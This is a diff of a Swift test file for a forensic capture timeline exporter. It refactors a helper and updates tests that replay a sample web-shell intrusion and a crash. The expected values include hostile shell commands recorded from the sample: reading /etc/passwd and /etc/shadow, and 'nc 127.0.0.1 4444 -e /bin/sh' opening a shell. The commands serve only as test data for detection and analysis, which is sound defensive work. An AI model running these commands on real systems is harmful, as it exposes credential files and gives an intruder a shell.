@@ -16,9 +16,10 @@ import Testing
 
   private func open(_ name: String) throws -> CaptureFile { try CaptureFile(path: Self.directory + "/" + name) }
 
-  private func timeline(_ file: CaptureFile) throws -> [JSONValue] {
-    var merge = EventMerge(file, entries: file.directory)
-    let exporter = try TimelineExporter(file)
+  private func timeline(_ capture: Capture) throws -> [JSONValue] {
+    let boot = capture.boots[0]
+    var merge = capture.events(in: boot.directory)
+    let exporter = try TimelineExporter(boot)
     var objects: [JSONValue] = []
     while let event = try merge.next() {
       var json = JSONText()
@@ -50,7 +51,7 @@ import Testing
   }
 
   @Test func `the intruder's shell, what it read and where it called are in the sample`() throws {
-    let events = try timeline(open("web-shell.pcapng"))
+    let events = try timeline(Capture(path: Self.directory + "/web-shell.pcapng"))
     let lines = events.compactMap { $0["process.command_line"]?.string }
     #expect(lines.contains { $0.contains("cat /etc/passwd /etc/shadow") && $0.hasPrefix("sh -c") })
     #expect(lines.contains("nc 127.0.0.1 4444 -e /bin/sh"))
@@ -70,7 +71,7 @@ import Testing
     #expect(billing.exitCode.map { ExitStatus(waitStatus: $0) } == .killed(signal: 11, dumpedCore: false))
     let shell = try #require(billing.parent.flatMap { history[$0] })
     #expect(shell.exitCode.map { ExitStatus(waitStatus: $0) } == .exited(code: 139))
-    let events = try timeline(file)
+    let events = try timeline(Capture(path: Self.directory + "/crash.pcapng"))
     let end = try #require(events.last { $0["process.pid"]?.integer == Int64(billing.key.pid) })
     #expect(end["process.exit_code"]?.integer == 139)
     #expect(end["aftertrace.signal"]?.string == "SIGSEGV")
